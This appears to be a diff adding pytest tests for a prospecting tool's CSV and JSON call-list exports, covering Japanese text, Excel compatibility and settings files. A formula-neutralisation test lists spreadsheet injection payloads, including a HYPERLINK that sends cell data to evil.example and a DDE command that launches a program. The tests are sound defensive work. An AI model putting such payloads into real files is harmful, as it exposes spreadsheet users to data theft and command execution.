@@ -1,0 +1,153 @@
+"""Export: the CSV call list opens in Excel (BOM, Japanese), is formula-safe; JSON; settings beside."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from spider.export import CALL_LIST_COLUMNS, safe_cell, to_csv, to_json, to_table, write_export
+from spider.settings import Settings
+
+COLUMNS = [
+    "rank",
+    "company",
+    "local_name",
+    "phone",
+    "website",
+    "address",
+    "city",
+    "segment",
+    "score",
+    "priority",
+    "reasons",
+    "reference",
+    "opening_line",
+    "ask_for",
+    "sources",
+]
+
+
+def parse(text: str) -> list[dict[str, str]]:
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
+
+
+def test_csv_has_the_exact_columns_and_one_row_per_prospect(expanded):
+    expansion = expanded("Tokyo five-star hotel", limit=25)
+    text = to_csv(expansion)
+    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert header == COLUMNS == list(CALL_LIST_COLUMNS)
+    rows = parse(text)
+    assert [int(r["rank"]) for r in rows] == list(range(1, 26))
+    for row, p in zip(rows, expansion.prospects, strict=True):
+        assert row["company"] == p.name and row["priority"] == p.priority
+        assert row["opening_line"] == p.opening_line and row["ask_for"] == p.ask_for
+        assert row["reasons"] and row["segment"] and row["sources"]
+        assert float(row["score"]) == pytest.approx(p.score, abs=1e-6)
+    assert "\r\n" in text  # Excel's line ending
+
+
+def test_csv_round_trips_japanese_text(tmp_path, expanded):
+    expansion = expanded("Tokyo five-star hotel", limit=25)
+    path = write_export(expansion, Settings(), "csv", tmp_path / "call list.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    japanese = [
+        r for r in rows if any("\u3040" <= ch <= "\u9fff" for ch in r["company"] + r["local_name"])
+    ]
+    assert japanese, "the Tokyo list carries Japanese names"
+    by_rank = {p.rank: p for p in expansion.prospects}
+    for row in rows:
+        p = by_rank[int(row["rank"])]
+        assert (row["company"], row["local_name"], row["address"]) == (
+            p.name,
+            p.name_local,
+            p.address,
+        )
+
+
+def test_csv_without_bom_on_request(expanded):
+    assert not to_csv(expanded("Toyota Motor", limit=3), bom=False).startswith("\ufeff")
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
+        "+81 3-3211-5211",
+        "@SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "＝1+1",
+        "＋81-3-1234-5678",
+    ],
+)
+def test_formula_like_cells_are_neutralised(expanded, value):
+    expansion = expanded("Palace Hotel Tokyo", limit=3)
+    p = expansion.prospects[0]
+    p.name, p.phone, p.website, p.address, p.opening_line = value, value, value, value, value
+    row = parse(to_csv(expansion))[0]
+    for column in ("company", "phone", "website", "address", "opening_line"):
+        assert row[column] == "'" + value, column
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Palace Hotel Tokyo", "03-3211-5211", "パレスホテル東京", "", 7])
+def test_ordinary_cells_are_left_alone(value):
+    assert safe_cell(value) == value
+
+
+def test_reference_column_marks_an_anonymous_client(expanded):
+    expansion = expanded("Palace Hotel Tokyo", limit=2)
+    named, anonymous = expansion.prospects
+    named.reference = {"company_id": 1, "name": "Aman Tokyo", "referenceable": True}
+    anonymous.reference = {"company_id": 2, "name": "Hotel Chinzanso Tokyo", "referenceable": False}
+    rows = parse(to_csv(expansion))
+    assert rows[0]["reference"] == "Aman Tokyo"
+    assert rows[1]["reference"] == "Hotel Chinzanso Tokyo (not to be named)"
+
+
+def test_settings_are_written_beside_every_export(tmp_path, expanded):
+    expansion = expanded("Toyota Motor", limit=5)
+    settings = Settings(language="en", limit=5)
+    path = write_export(expansion, settings, "json", tmp_path / "out" / "toyota.json")
+    beside = json.loads((tmp_path / "out" / "toyota.settings.json").read_text(encoding="utf-8"))
+    assert beside["query"] == "Toyota Motor" and beside["run_id"] == expansion.run_id
+    assert beside["settings"] == json.loads(settings.to_json())
+    doc = json.loads(path.read_text(encoding="utf-8"))
+    assert doc["query"] == "Toyota Motor" and doc["kind"] == "company"
+    assert [p["company_id"] for p in doc["prospects"]] == [
+        p.company_id for p in expansion.prospects
+    ]
+    assert all(r["evidence"] and r["signal"] for p in doc["prospects"] for r in p["reasons"])
+
+
+def test_default_export_path_is_under_the_output_dir(tmp_path, expanded):
+    expansion = expanded("東京 5つ星ホテル", limit=3)
+    path = write_export(expansion, Settings(output_dir=str(tmp_path / "output")), "csv", None)
+    assert path.parent == tmp_path / "output" and path.suffix == ".csv"
+    assert path.with_name(path.stem + ".settings.json").exists()
+
+
+def test_unwritable_path_is_an_input_error(tmp_path, expanded):
+    from spider.errors import InputError
+
+    blocker = tmp_path / "file"
+    blocker.write_text("x", encoding="utf-8")
+    with pytest.raises(InputError, match="cannot write"):
+        write_export(expanded("Toyota Motor", limit=1), Settings(), "csv", blocker / "out.csv")
+
+
+def test_json_and_table_carry_the_same_prospects(expanded):
+    expansion = expanded("Tokyo five-star hotel zzzqx", limit=5)
+    doc = json.loads(to_json(expansion))
+    assert doc["ignored"] == ["zzzqx"] and doc["kind"] == "segment"
+    assert [f["label"] for f in doc["facets"]] and len(doc["prospects"]) == 5
+    table = to_table(expansion, width=100)
+    for p in expansion.prospects:
+        assert p.name in table and p.opening_line.split()[0] in table
